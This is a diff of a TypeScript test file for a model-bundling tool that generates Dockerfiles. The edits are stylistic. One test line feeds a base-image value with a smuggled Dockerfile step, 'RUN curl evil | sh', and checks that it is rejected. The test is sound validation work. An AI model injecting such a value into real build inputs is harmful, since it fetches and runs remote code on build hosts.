@@ -202,7 +202,7 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
     assert.equal(config.server.port, 8080);
 
     const custom = env.out('custom');
-    await env.bundle({ versions: ['2'], out: custom, baseImage: 'registry.example.com/ml/scoreline:0.1.0@sha256:' + 'a'.repeat(64) });
+    await env.bundle({ versions: ['2'], out: custom, baseImage: `registry.example.com/ml/scoreline:0.1.0@sha256:${'a'.repeat(64)}` });
     assert.match(readFileSync(join(custom, 'Dockerfile'), 'utf8'), /^FROM registry\.example\.com\/ml\/scoreline:0\.1\.0@sha256:a{64}$/m);
     await rejects(() => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }), 'BAD_REQUEST', /not a container image reference/);
     assert.equal(existsSync(env.out('evil')), false);
@@ -252,7 +252,9 @@ test('a real server started on the bundle\'s config serves the bundled versions'
         assert.equal(r.body.model_version, String(f.version));
         const probabilities = (r.body.outputs as { name: string; data: number[] }[]).find((o) => o.name === 'probabilities')!.data;
         const expected = f.example.outputs.find((o) => o.name === 'probabilities')!.data as number[];
-        probabilities.forEach((p, i) => assert.ok(Math.abs(p - expected[i]!) < 1e-6, `v${f.version}[${i}]: ${p} vs ${expected[i]}`));
+        probabilities.forEach((p, i) => {
+          assert.ok(Math.abs(p - expected[i]!) < 1e-6, `v${f.version}[${i}]: ${p} vs ${expected[i]}`);
+        });
       }
     } finally {
       assert.equal(await server.stop(), 0);
